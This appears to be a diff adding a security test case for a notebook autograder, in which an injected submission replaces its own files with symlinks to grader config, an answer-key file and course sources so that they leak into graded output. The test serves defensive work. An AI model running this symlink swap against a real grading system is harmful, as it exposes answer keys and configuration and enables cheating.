@@ -1,0 +1,23 @@
+"""While it is graded the notebook puts links and other files in place of its own.
+
+Success: a canary in autograded/ or feedback/, or a trace.
+"""
+
+
+def attack(submission):
+    submission.first("""
+        import os
+        targets = {
+            "found.txt": "/etc/grader.conf",
+            "data.csv": "/srv/course/answers.py",
+            "ps1.ipynb": "/srv/course/notes.txt",
+            "folder": "/srv/course/source",
+        }
+        for name, target in targets.items():
+            try:
+                if os.path.lexists(name):
+                    os.remove(name)
+                os.symlink(target, name)
+            except OSError as error:
+                print(error)
+    """)
